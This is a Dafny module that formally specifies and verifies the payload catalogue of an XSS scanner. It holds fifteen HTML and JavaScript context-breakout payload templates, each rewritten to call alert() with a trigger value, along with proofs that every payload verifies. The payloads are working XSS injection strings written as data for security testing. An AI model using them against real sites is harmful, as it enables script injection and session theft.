/** The payload catalogue (XssMapPayloads.py): fifteen templates, each tagged
    with the reflection contexts it is built to break out of, whose
    JavaScript placeholder is rewritten once, at load time, into the
    verification script `alert({TRIGGERVAL})`. */
module XssMapPayloads {
  import opened XssMapObjects
  import opened Strings

  /** One payload dictionary: `id`, `contexts` and `string`. */
  datatype Payload = Payload(id: nat, contexts: seq<ContextKind>, template: string)

  const JavascriptPlaceholder: string := "{JAVASCRIPT}"
  const TriggerValuePlaceholder: string := "{TRIGGERVAL}"

  /** `VERIFY_SCRIPTS[0]`, the only verification script. */
  const VerifyScript: string := "alert(" + TriggerValuePlaceholder + ")"

  /** The payload appended with the given id, before the rewrite loop. */
  function RawPayload(id: nat): Payload
    requires 1 <= id <= 15
  {
    match id
    case 1 => Payload(1, [NodeName], "script>" + JavascriptPlaceholder + "//")
    case 2 => Payload(2, [NodeName], "b onmouseover=" + JavascriptPlaceholder + " ")
    case 3 => Payload(3, [AttributeName], "><script>" + JavascriptPlaceholder + ";/*")
    case 4 => Payload(4, [AttributeName], "onmouseover=" + JavascriptPlaceholder + " ")
    case 5 => Payload(5, [Style], "</style><script>" + JavascriptPlaceholder + "</script><style>")
    case 6 => Payload(6, [AttributeValue, StyleAttrib, ClassAttrib], "'><script>" + JavascriptPlaceholder + "/*")
    case 7 => Payload(7, [AttributeValue, StyleAttrib, ClassAttrib], "'onmouseover='" + JavascriptPlaceholder + " ")
    case 8 => Payload(8, [Comment], "--><script>" + JavascriptPlaceholder + "</script><!--")
    case 9 => Payload(9, [Comment], "--><b onmouseover=" + JavascriptPlaceholder + " >text</b><!--")
    case 10 => Payload(10, [JsSingleQuote], ";" + JavascriptPlaceholder + "//")
    case 11 => Payload(11, [JsSingleQuote], "'" + JavascriptPlaceholder + "//")
    case 12 => Payload(12, [JsDoubleQuote], "\";" + JavascriptPlaceholder + "//")
    case 13 => Payload(13, [JsDoubleQuote], "\"" + JavascriptPlaceholder + "//")
    case 14 => Payload(14, [JsSingleQuote, JsDoubleQuote], "</script><script>" + JavascriptPlaceholder + "</script><script>")
    case _ => Payload(15, [JsNode], JavascriptPlaceholder)
  }

  /** The catalogue as it is appended, before the rewrite loop. */
  function RawPayloads(): seq<Payload>
  {
    seq(15, i requires 0 <= i < 15 => RawPayload(i + 1))
  }

  /** One step of the rewrite loop: `s.replace(JAVASCRIPT_PLACEHOLDER, VERIFY_SCRIPTS[0])`. */
  function RewriteOne(p: Payload): Payload
  {
    p.(template := Replace(p.template, JavascriptPlaceholder, VerifyScript))
  }

  /** The whole list after the rewrite loop. */
  function Rewritten(ps: seq<Payload>): seq<Payload>
  {
    seq(|ps|, i requires 0 <= i < |ps| => RewriteOne(ps[i]))
  }

  /** `XSSMAP_PAYLOADS` as the scanner sees it. */
  function Catalog(): seq<Payload>
  {
    Rewritten(RawPayloads())
  }

  /** The rewrite loop, in place on the list. */
  method RewritePayloads(payloads: array<Payload>)
    modifies payloads
    ensures payloads[..] == Rewritten(old(payloads[..]))
  {
    for i := 0 to payloads.Length
      invariant forall k | 0 <= k < i :: payloads[k] == RewriteOne(old(payloads[k]))
      invariant forall k | i <= k < payloads.Length :: payloads[k] == old(payloads[k])
    {
      var s := payloads[i].template;
      payloads[i] := payloads[i].(template := Replace(s, JavascriptPlaceholder, VerifyScript));
    }
  }

  /** Loading the module: the list is built and then rewritten. */
  method LoadPayloads() returns (payloads: array<Payload>)
    ensures fresh(payloads)
    ensures payloads[..] == Catalog()
  {
    payloads := new Payload[15](i requires 0 <= i < 15 => RawPayloads()[i]);
    assert payloads[..] == RawPayloads();
    RewritePayloads(payloads);
  }

  /** The scanner's attack string: the payload with the trigger in place of
      the trigger placeholder. */
  function Attack(p: Payload, trigger: string): string
  {
    Replace(p.template, TriggerValuePlaceholder, trigger)
  }

  /** What the rewrite is for: no JavaScript placeholder is left, the
      verification script occurs exactly once, and any trigger without a
      `{` turns the payload into an attack that calls `alert` with that
      trigger and carries no placeholder of either kind. */
  ghost predicate Verifying(p: Payload)
  {
    !Contains(p.template, JavascriptPlaceholder) &&
    Occurrences(p.template, VerifyScript) == 1 &&
    forall trigger {:trigger AttackAlerts(p, trigger)} | '{' !in trigger :: AttackAlerts(p, trigger)
  }

  /** The attack built from `p` with `trigger` calls `alert` with that
      trigger and carries no placeholder. */
  ghost predicate AttackAlerts(p: Payload, trigger: string)
  {
    Contains(Attack(p, trigger), "alert(" + trigger + ")") && '{' !in Attack(p, trigger)
  }

  /** A template written as text, the placeholder, text, where the first
      text holds no `{` and the second no placeholder, is rewritten to the
      same texts around the verification script. */
  lemma RewriteTemplate(before: string, after: string)
    requires '{' !in before && '{' !in after
    ensures Replace(before + JavascriptPlaceholder + after, JavascriptPlaceholder, VerifyScript)
         == before + VerifyScript + after
  {
    ContainsHead(after, JavascriptPlaceholder);
    ReplaceOnce(before, JavascriptPlaceholder, after, VerifyScript);
  }

  /** After the rewrite no placeholder is left, as long as the texts
      around the script hold no `J`. */
  lemma RewrittenHasNoPlaceholder(before: string, after: string)
    requires 'J' !in before && 'J' !in after
    ensures !Contains(before + VerifyScript + after, JavascriptPlaceholder)
  {
    var s := before + VerifyScript + after;
    assert 'J' !in VerifyScript;
    assert 'J' !in s;
    NoOccurrenceWithout(s, JavascriptPlaceholder, 1, 'J');
    OccurrencesPositive(s, JavascriptPlaceholder);
  }

  /** After the rewrite the verification script occurs exactly once, as
      long as the texts around it hold no `{`. */
  lemma RewrittenScriptOnce(before: string, after: string)
    requires '{' !in before && '{' !in after
    ensures Occurrences(before + VerifyScript + after, VerifyScript) == 1
  {
    assert VerifyScript == "alert(" + ['{'] + "TRIGGERVAL})";
    OccursOnce(before, "alert(", '{', "TRIGGERVAL})", after);
  }

  /** Substituting a trigger without a `{` into a rewritten template whose
      texts hold no `{` puts the trigger inside the `alert` call and leaves
      no `{` behind. */
  lemma AttackTemplate(before: string, after: string, trigger: string)
    requires '{' !in before && '{' !in after && '{' !in trigger
    ensures Replace(before + VerifyScript + after, TriggerValuePlaceholder, trigger)
         == before + "alert(" + trigger + ")" + after
    ensures Contains(before + "alert(" + trigger + ")" + after, "alert(" + trigger + ")")
    ensures '{' !in before + "alert(" + trigger + ")" + after
  {
    TemplateFilled(before, after, trigger);
    AlertCallIn(before, after, trigger);
  }

  lemma TemplateFilled(before: string, after: string, trigger: string)
    requires '{' !in before && '{' !in after
    ensures Replace(before + VerifyScript + after, TriggerValuePlaceholder, trigger)
         == before + "alert(" + trigger + ")" + after
  {
    var pre, post := before + "alert(", ")" + after;
    Regroup(before, "alert(", TriggerValuePlaceholder, ")", after);
    Regroup(before, "alert(", trigger, ")", after);
    ContainsHead(post, TriggerValuePlaceholder);
    ReplaceOnce(pre, TriggerValuePlaceholder, post, trigger);
  }

  lemma Regroup(a: string, b: string, c: string, d: string, e: string)
    ensures a + (b + c + d) + e == (a + b) + c + (d + e)
    ensures a + b + c + d + e == (a + b) + c + (d + e)
  {
  }

  lemma AlertCallIn(before: string, after: string, trigger: string)
    requires '{' !in before && '{' !in after && '{' !in trigger
    ensures Contains(before + "alert(" + trigger + ")" + after, "alert(" + trigger + ")")
    ensures '{' !in before + "alert(" + trigger + ")" + after
  {
    var s := before + "alert(" + trigger + ")" + after;
    var call := "alert(" + trigger + ")";
    assert s == before + call + after;
    assert s[|before|..][..|call|] == call;
  }

  /** The payload with id `id`, written as `before`, the placeholder and
      `after`, comes out of the rewrite loop with the verification script in
      place of the placeholder, and verifying. */
  lemma RewriteEntry(id: nat, before: string, after: string)
    requires 1 <= id <= 15
    requires RawPayload(id).template == before + JavascriptPlaceholder + after
    requires '{' !in before && '{' !in after && 'J' !in before && 'J' !in after
    ensures RewriteOne(RawPayload(id)).template == before + VerifyScript + after
    ensures Verifying(RewriteOne(RawPayload(id)))
  {
    RewriteTemplate(before, after);
    RewrittenHasNoPlaceholder(before, after);
    RewrittenScriptOnce(before, after);
    var p := RewriteOne(RawPayload(id));
    forall trigger | '{' !in trigger
      ensures AttackAlerts(p, trigger)
    {
      AttackTemplate(before, after, trigger);
    }
  }

  /** Payloads 1 to 4 come out of the rewrite loop verifying. */
  lemma RewriteEntriesFirst(id: nat)
    requires 1 <= id <= 4
    ensures Verifying(RewriteOne(RawPayload(id)))
  {
    match id
    case 1 => RewriteEntry(id, "script>", "//");
    case 2 => RewriteEntry(id, "b onmouseover=", " ");
    case 3 => RewriteEntry(id, "><script>", ";/*");
    case _ => RewriteEntry(id, "onmouseover=", " ");
  }

  /** Payloads 5 to 8 come out of the rewrite loop verifying. */
  lemma RewriteEntriesSecond(id: nat)
    requires 5 <= id <= 8
    ensures Verifying(RewriteOne(RawPayload(id)))
  {
    match id
    case 5 => RewriteEntry(id, "</style><script>", "</script><style>");
    case 6 => RewriteEntry(id, "'><script>", "/*");
    case 7 => RewriteEntry(id, "'onmouseover='", " ");
    case _ => RewriteEntry(id, "--><script>", "</script><!--");
  }

  /** Payloads 9 to 12 come out of the rewrite loop verifying. */
  lemma RewriteEntriesThird(id: nat)
    requires 9 <= id <= 12
    ensures Verifying(RewriteOne(RawPayload(id)))
  {
    match id
    case 9 => RewriteEntry(id, "--><b onmouseover=", " >text</b><!--");
    case 10 => RewriteEntry(id, ";", "//");
    case 11 => RewriteEntry(id, "'", "//");
    case _ => RewriteEntry(id, "\";", "//");
  }

  /** Payloads 13 to 15 come out of the rewrite loop verifying. */
  lemma RewriteEntriesLast(id: nat)
    requires 13 <= id <= 15
    ensures Verifying(RewriteOne(RawPayload(id)))
  {
    match id
    case 13 => RewriteEntry(id, "\"", "//");
    case 14 => RewriteEntry(id, "</script><script>", "</script><script>");
    case _ =>
      assert JavascriptPlaceholder == [] + JavascriptPlaceholder + [];
      RewriteEntry(id, [], []);
  }

  /** Every payload comes out of the rewrite loop verifying. */
  lemma RewriteEntryAny(id: nat)
    requires 1 <= id <= 15
    ensures Verifying(RewriteOne(RawPayload(id)))
  {
    if id <= 4 {
      RewriteEntriesFirst(id);
    } else if id <= 8 {
      RewriteEntriesSecond(id);
    } else if id <= 12 {
      RewriteEntriesThird(id);
    } else {
      RewriteEntriesLast(id);
    }
  }

  /** What the rewrite loop promises for the whole catalogue: fifteen
      payloads with ids 1 to 15 in order, every one of them verifying. */
  lemma CatalogScripts()
    ensures |Catalog()| == 15
    ensures forall i | 0 <= i < 15 :: Catalog()[i].id == i + 1 && Verifying(Catalog()[i])
  {
    forall i | 0 <= i < 15
      ensures Catalog()[i].id == i + 1 && Verifying(Catalog()[i])
    {
      assert Catalog()[i] == RewriteOne(RawPayload(i + 1));
      RewriteEntryAny(i + 1);
    }
  }

  /** The contexts some payload is built for. */
  predicate Targeted(k: ContextKind)
  {
    k in {NodeName, AttributeName, AttributeValue, Comment, Style, ClassAttrib, StyleAttrib,
          JsNode, JsSingleQuote, JsDoubleQuote}
  }

  /** Every raw payload names at least one context, all of them targeted
      (so never the wildcard). */
  lemma RawContexts(id: nat)
    requires 1 <= id <= 15
    ensures RawPayload(id).contexts != []
    ensures forall k | k in RawPayload(id).contexts :: Targeted(k)
  {
  }

  /** The catalogue covers exactly the targeted contexts: each payload's
      contexts are targeted and non-empty, and each targeted context is
      served by some payload. The reflection checker's other labels (`text`,
      `idattrib`, `onattrib` and the four message kinds) select nothing. */
  lemma CatalogContexts()
    ensures forall i | 0 <= i < |Catalog()| :: Catalog()[i].contexts != []
    ensures forall i, k | 0 <= i < |Catalog()| && k in Catalog()[i].contexts :: Targeted(k)
    ensures forall k | Targeted(k) :: exists i | 0 <= i < |Catalog()| :: k in Catalog()[i].contexts
  {
    forall i | 0 <= i < |Catalog()|
      ensures Catalog()[i].contexts != [] && forall k | k in Catalog()[i].contexts :: Targeted(k)
    {
      RawContexts(i + 1);
    }
    forall k | Targeted(k)
      ensures exists i | 0 <= i < |Catalog()| :: k in Catalog()[i].contexts
    {
      var i := match k
        case NodeName => 0
        case AttributeName => 2
        case Style => 4
        case AttributeValue => 5
        case StyleAttrib => 5
        case ClassAttrib => 5
        case Comment => 7
        case JsSingleQuote => 9
        case JsDoubleQuote => 11
        case _ => 14;
      assert k in Catalog()[i].contexts;
    }
  }
}
